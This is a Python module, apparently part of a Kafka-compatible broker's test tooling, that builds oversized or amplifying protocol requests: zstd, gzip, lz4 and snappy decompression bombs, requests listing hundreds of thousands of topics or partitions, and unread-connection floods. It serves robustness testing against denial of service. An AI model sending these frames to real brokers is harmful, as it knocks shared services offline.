"""Requests that cost a broker far more than they cost their sender.

Each attack is well formed, so every broker has to look at it. `ATTACKS` maps a name to a function that builds the
frame; the frames of some are megabytes, so they are built in the process that sends them.
"""

from __future__ import annotations

import gzip
from collections.abc import Callable
from typing import Final, NamedTuple

import cramjam

from barnabas._kernels import checksum
from barnabas.common.identifiers import Uuid
from barnabas.protocol.framing import encode_request
from barnabas.protocol.message import Request
from barnabas.protocol.messages import (
    add_partitions_to_txn,
    alter_client_quotas,
    alter_partition_reassignments,
    create_acls,
    create_partitions,
    create_topics,
    delete_records,
    delete_topics,
    describe_configs,
    describe_log_dirs,
    describe_producers,
    describe_topic_partitions,
    elect_leaders,
    fetch,
    incremental_alter_configs,
    join_group,
    leave_group,
    list_offsets,
    metadata,
    offset_commit,
    offset_fetch,
    offset_for_leader_epoch,
    produce,
    sync_group,
)
from barnabas.protocol.messages.delete_groups import DeleteGroupsRequest
from barnabas.protocol.messages.describe_groups import DescribeGroupsRequest
from barnabas.protocol.messages.describe_transactions import DescribeTransactionsRequest
from barnabas.protocol.messages.find_coordinator import FindCoordinatorRequest
from barnabas.protocol.messages.push_telemetry import PushTelemetryRequest
from barnabas.records.batch import HEADER, HEADER_SIZE, LOG_OVERHEAD, MAGIC, CompressionType

crc32c = checksum.crc32c

TARGET: Final = "target"
"""The topic that attacks name; it has 64 partitions."""
TARGET_PARTITIONS: Final = 64
BOMB_BYTES: Final = 120 << 20


class Attack(NamedTuple):
    """A frame, from how many connections it is sent over and over, and whether the responses are read."""

    frame: bytes
    connections: int = 1
    reads: bool = True


def _request(message: Request, version: int) -> bytes:
    return encode_request(message, version, 1, "hostile")


def _names(count: int, prefix: str = "t") -> list[str]:
    return [f"{prefix}{number}" for number in range(count)]


# -- produce


def one_record(size: int) -> bytes:
    """A record whose value takes up nearly `size` bytes."""

    def varint(number: int) -> bytes:
        number = number << 1
        out = bytearray()
        while number > 127:
            out.append(number & 127 | 128)
            number >>= 7
        return bytes(out) + bytes([number])

    value = bytes(size - 32)
    record = b"\0\0\0\1" + varint(len(value)) + value + b"\0"
    return varint(len(record)) + record


def one_batch(records: bytes, codec: CompressionType, count: int = 1, *, raw: bytes | None = None) -> bytes:
    if raw is not None:
        body = raw
    elif codec is CompressionType.GZIP:
        body = gzip.compress(records, 9)
    elif codec is CompressionType.ZSTD:
        body = bytes(cramjam.zstd.compress(records, level=19))
    elif codec is CompressionType.LZ4:
        body = bytes(cramjam.lz4.compress(records))
    elif codec is CompressionType.SNAPPY:
        body = bytes(cramjam.snappy.compress_raw(records))
    else:
        body = records
    head = bytearray(HEADER_SIZE)
    now = 1_700_000_000_000
    HEADER.pack_into(
        head, 0, 0, HEADER_SIZE - LOG_OVERHEAD + len(body), -1, MAGIC, 0, codec, count - 1, now, now, -1, -1, -1, count
    )
    batch = head + body
    batch[17:21] = crc32c(memoryview(batch)[21:]).to_bytes(4)
    return bytes(batch)


def _produce(batch: bytes, partitions: int, topic: str = TARGET) -> bytes:
    data = [produce.PartitionProduceData(index=index, records=batch) for index in range(partitions)]
    body = produce.ProduceRequest(
        acks=-1, timeout_ms=30_000, topic_data=[produce.TopicProduceData(name=topic, partition_data=data)]
    )
    return _request(body, 12)


def _bomb(codec: CompressionType, partitions: int, size: int = BOMB_BYTES) -> bytes:
    return _produce(one_batch(one_record(size), codec), partitions)


def _many_batches() -> bytes:
    """A small batch for each of many partitions that do not exist."""
    return _produce(one_batch(one_record(40), CompressionType.NONE), 50_000)


# -- everything else


def _fetch_session(count: int) -> bytes:
    partitions = [fetch.FetchPartition(partition=index, partition_max_bytes=1) for index in range(count)]
    body = fetch.FetchRequest(
        max_wait_ms=0,
        session_id=0,
        session_epoch=0,
        topics=[fetch.FetchTopic(topic=TARGET, partitions=partitions)],
    )
    return _request(body, 12)


def _offset_commit(count: int) -> bytes:
    partitions = [
        offset_commit.OffsetCommitRequestPartition(partition_index=index, committed_offset=1) for index in range(count)
    ]
    body = offset_commit.OffsetCommitRequest(
        group_id="hostile",
        topics=[offset_commit.OffsetCommitRequestTopic(name=TARGET, partitions=partitions)],
    )
    return _request(body, 8)


def _epochs(count: int) -> bytes:
    partitions = [
        offset_for_leader_epoch.OffsetForLeaderPartition(partition=index, leader_epoch=0) for index in range(count)
    ]
    topics = [offset_for_leader_epoch.OffsetForLeaderTopic(topic=TARGET, partitions=partitions)]
    return _request(offset_for_leader_epoch.OffsetForLeaderEpochRequest(replica_id=-1, topics=topics), 4)


def _list_offsets(count: int) -> bytes:
    partitions = [list_offsets.ListOffsetsPartition(partition_index=index, timestamp=-1) for index in range(count)]
    topics = [list_offsets.ListOffsetsTopic(name=TARGET, partitions=partitions)]
    return _request(list_offsets.ListOffsetsRequest(replica_id=-1, topics=topics), 7)


def _offset_fetch(count: int) -> bytes:
    topics = [offset_fetch.OffsetFetchRequestTopics(name=TARGET, partition_indexes=list(range(count)))]
    groups = [offset_fetch.OffsetFetchRequestGroup(group_id="hostile", topics=topics)]
    return _request(offset_fetch.OffsetFetchRequest(groups=groups), 8)


def _delete_records(count: int) -> bytes:
    partitions = [delete_records.DeleteRecordsPartition(partition_index=index, offset=0) for index in range(count)]
    topics = [delete_records.DeleteRecordsTopic(name=TARGET, partitions=partitions)]
    return _request(delete_records.DeleteRecordsRequest(topics=topics, timeout_ms=1000), 2)


def _broker_configs(count: int) -> bytes:
    resources = [describe_configs.DescribeConfigsResource(resource_type=4, resource_name="1") for _ in range(count)]
    body = describe_configs.DescribeConfigsRequest(resources=resources, include_synonyms=True)
    return _request(body, 4)


def _topic_configs(count: int) -> bytes:
    resources = [describe_configs.DescribeConfigsResource(resource_type=2, resource_name=TARGET) for _ in range(count)]
    body = describe_configs.DescribeConfigsRequest(resources=resources, include_synonyms=True)
    return _request(body, 4)


def _alter_configs(count: int) -> bytes:
    resources = [
        incremental_alter_configs.AlterConfigsResource(
            resource_type=2,
            resource_name=name,
            configs=[incremental_alter_configs.AlterableConfig(name="retention.ms", value="1")],
        )
        for name in _names(count)
    ]
    body = incremental_alter_configs.IncrementalAlterConfigsRequest(resources=resources, validate_only=True)
    return _request(body, 1)


def _metadata(names: list[str] | None) -> bytes:
    topics = None if names is None else [metadata.MetadataRequestTopic(name=name) for name in names]
    return _request(metadata.MetadataRequest(topics=topics, allow_auto_topic_creation=False), 9)


def _create_topics(count: int) -> bytes:
    topics = [create_topics.CreatableTopic(name=name, num_partitions=1, replication_factor=1) for name in _names(count)]
    return _request(create_topics.CreateTopicsRequest(topics=topics, timeout_ms=1000, validate_only=True), 7)


def _delete_topics(count: int) -> bytes:
    ids = (Uuid(number.to_bytes(16)) for number in range(1, count))
    topics = [delete_topics.DeleteTopicState(name=None, topic_id=topic_id) for topic_id in ids]
    return _request(delete_topics.DeleteTopicsRequest(topics=topics, timeout_ms=1000), 6)


def _create_partitions(count: int) -> bytes:
    topics = [create_partitions.CreatePartitionsTopic(name=name, count=2) for name in _names(count)]
    return _request(create_partitions.CreatePartitionsRequest(topics=topics, timeout_ms=1000, validate_only=True), 3)


def _describe_partitions(count: int) -> bytes:
    topics = [describe_topic_partitions.TopicRequest(name=name) for name in _names(count)]
    return _request(describe_topic_partitions.DescribeTopicPartitionsRequest(topics=topics), 0)


def _add_partitions(count: int) -> bytes:
    topics = [add_partitions_to_txn.AddPartitionsToTxnTopic(name=TARGET, partitions=list(range(count)))]
    body = add_partitions_to_txn.AddPartitionsToTxnRequest(
        v3_and_below_transactional_id="hostile", v3_and_below_producer_id=1, v3_and_below_topics=topics
    )
    return _request(body, 3)


def _describe_producers(count: int) -> bytes:
    topics = [describe_producers.TopicRequest(name=TARGET, partition_indexes=list(range(count)))]
    return _request(describe_producers.DescribeProducersRequest(topics=topics), 0)


def _log_dirs(count: int) -> bytes:
    topics = [describe_log_dirs.DescribableLogDirTopic(topic=TARGET, partitions=list(range(count)))]
    return _request(describe_log_dirs.DescribeLogDirsRequest(topics=topics), 4)


def _join_group(count: int) -> bytes:
    protocols = [join_group.JoinGroupRequestProtocol(name=name, metadata=b"") for name in _names(count)]
    body = join_group.JoinGroupRequest(
        group_id="hostile",
        session_timeout_ms=10_000,
        rebalance_timeout_ms=10_000,
        protocol_type="consumer",
        protocols=protocols,
    )
    return _request(body, 6)


def _sync_group(count: int) -> bytes:
    assignments = [sync_group.SyncGroupRequestAssignment(member_id=name, assignment=b"") for name in _names(count)]
    return _request(sync_group.SyncGroupRequest(group_id="hostile", member_id="m", assignments=assignments), 4)


def _leave_group(count: int) -> bytes:
    members = [leave_group.MemberIdentity(member_id=name) for name in _names(count)]
    return _request(leave_group.LeaveGroupRequest(group_id="hostile", members=members), 4)


def _elect_leaders(count: int) -> bytes:
    topics = [elect_leaders.TopicPartitions(topic=TARGET, partitions=list(range(count)))]
    return _request(elect_leaders.ElectLeadersRequest(topic_partitions=topics, timeout_ms=1000), 2)


def _reassign(count: int) -> bytes:
    partitions = [
        alter_partition_reassignments.ReassignablePartition(partition_index=index, replicas=[99])
        for index in range(count)
    ]
    topics = [alter_partition_reassignments.ReassignableTopic(name=TARGET, partitions=partitions)]
    return _request(alter_partition_reassignments.AlterPartitionReassignmentsRequest(topics=topics, timeout_ms=1000), 0)


def _acls(count: int) -> bytes:
    creations = [
        create_acls.AclCreation(
            resource_type=2,
            resource_name=name,
            resource_pattern_type=3,
            principal="User:x",
            host="*",
            operation=3,
            permission_type=3,
        )
        for name in _names(count)
    ]
    return _request(create_acls.CreateAclsRequest(creations=creations), 3)


def _quotas(count: int) -> bytes:
    entries = [
        alter_client_quotas.RequestEntryData(
            entity=[alter_client_quotas.EntityData(entity_type="client-id", entity_name=name)],
            ops=[alter_client_quotas.OpData(key="producer_byte_rate", value=1.0)],
        )
        for name in _names(count)
    ]
    return _request(alter_client_quotas.AlterClientQuotasRequest(entries=entries, validate_only=True), 1)


def _telemetry() -> bytes:
    body = PushTelemetryRequest(
        client_instance_id=Uuid((1).to_bytes(16)),
        subscription_id=1,
        compression_type=4,
        metrics=bytes(cramjam.zstd.compress(bytes(BOMB_BYTES), level=19)),
    )
    return _request(body, 0)


ATTACKS: Final[dict[str, Callable[[], Attack]]] = {
    "produce, zstd 120 MiB x 64": lambda: Attack(_bomb(CompressionType.ZSTD, 64)),
    "produce, gzip 120 MiB x 16": lambda: Attack(_bomb(CompressionType.GZIP, 16)),
    "produce, lz4 16 MiB x 8": lambda: Attack(_bomb(CompressionType.LZ4, 8, 16 << 20)),
    "produce, snappy 16 MiB x 2": lambda: Attack(_bomb(CompressionType.SNAPPY, 2, 16 << 20)),
    "produce, 50,000 partitions": lambda: Attack(_many_batches()),
    "produce, 60 MiB in one batch": lambda: Attack(_bomb(CompressionType.NONE, 1, 60 << 20)),
    "metadata, 1,000,000 names": lambda: Attack(_metadata(_names(1_000_000))),
    "metadata, 49,000 names": lambda: Attack(_metadata(_names(49_000))),
    "metadata, 2,000 names": lambda: Attack(_metadata(_names(2_000))),
    "metadata, all topics": lambda: Attack(_metadata(None)),
    "metadata, 300 unread": lambda: Attack(_metadata(_names(20_000)), 300, reads=False),
    "find coordinator, 500,000 keys": lambda: Attack(
        _request(FindCoordinatorRequest(key_type=0, coordinator_keys=_names(500_000)), 4)
    ),
    "find coordinator, 49,000 keys": lambda: Attack(
        _request(FindCoordinatorRequest(key_type=0, coordinator_keys=_names(49_000)), 4)
    ),
    "fetch, session of 500,000": lambda: Attack(_fetch_session(500_000)),
    "fetch, session of 49,000": lambda: Attack(_fetch_session(49_000)),
    "offset for leader epoch, 500,000": lambda: Attack(_epochs(500_000)),
    "offset for leader epoch, 49,000": lambda: Attack(_epochs(49_000)),
    "offset commit, 200,000": lambda: Attack(_offset_commit(200_000)),
    "offset commit, 49,000": lambda: Attack(_offset_commit(49_000)),
    "list offsets, 49,000": lambda: Attack(_list_offsets(49_000)),
    "offset fetch, 500,000": lambda: Attack(_offset_fetch(500_000)),
    "delete records, 49,000": lambda: Attack(_delete_records(49_000)),
    "describe configs, broker x 2,000": lambda: Attack(_broker_configs(2_000)),
    "describe configs, topic x 49,000": lambda: Attack(_topic_configs(49_000)),
    "alter configs, 9,000": lambda: Attack(_alter_configs(9_000)),
    "create topics, 49,000": lambda: Attack(_create_topics(49_000)),
    "delete topics, 49,000": lambda: Attack(_delete_topics(49_000)),
    "create partitions, 49,000": lambda: Attack(_create_partitions(49_000)),
    "describe topic partitions, 49,000": lambda: Attack(_describe_partitions(49_000)),
    "describe groups, 49,000": lambda: Attack(_request(DescribeGroupsRequest(groups=_names(49_000)), 5)),
    "delete groups, 49,000": lambda: Attack(_request(DeleteGroupsRequest(groups_names=_names(49_000)), 2)),
    "describe transactions, 49,000": lambda: Attack(
        _request(DescribeTransactionsRequest(transactional_ids=_names(49_000)), 0)
    ),
    "add partitions to txn, 49,000": lambda: Attack(_add_partitions(49_000)),
    "describe producers, 49,000": lambda: Attack(_describe_producers(49_000)),
    "describe log dirs, 49,000": lambda: Attack(_log_dirs(49_000)),
    "join group, 49,000 protocols": lambda: Attack(_join_group(49_000)),
    "sync group, 49,000": lambda: Attack(_sync_group(49_000)),
    "leave group, 49,000": lambda: Attack(_leave_group(49_000)),
    "elect leaders, 49,000": lambda: Attack(_elect_leaders(49_000)),
    "reassign, 24,000": lambda: Attack(_reassign(24_000)),
    "create acls, 49,000": lambda: Attack(_acls(49_000)),
    "alter quotas, 16,000": lambda: Attack(_quotas(16_000)),
    "push telemetry, zstd 120 MiB": lambda: Attack(_telemetry()),
}
